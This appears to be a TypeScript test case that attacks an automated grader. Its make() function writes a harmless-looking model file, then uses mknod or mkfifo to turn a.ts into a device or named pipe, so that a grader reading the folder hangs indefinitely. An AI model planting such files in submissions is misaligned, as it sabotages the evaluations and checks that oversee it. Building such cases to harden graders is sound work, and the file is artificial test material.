// attack: a file of it is a device, where this machine lets one be made
// success: the grader reads for ever
// expect: accepted

import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

const CODE = `import * as tf from '@tensorflow/tfjs';
export const train = () => tf.sequential({ layers: [tf.layers.flatten({ inputShape: [28, 28, 1] }), tf.layers.dense({ units: 10 })] });
`;

export async function make(folder: string): Promise<void> {
  writeFileSync(join(folder, 'main.ts'), CODE);
  // without the right to make devices it is a pipe
  execFileSync('sh', ['-c', 'mknod "$1" c 1 5 2>/dev/null || mkfifo "$1"', 'sh', join(folder, 'a.ts')]);
}
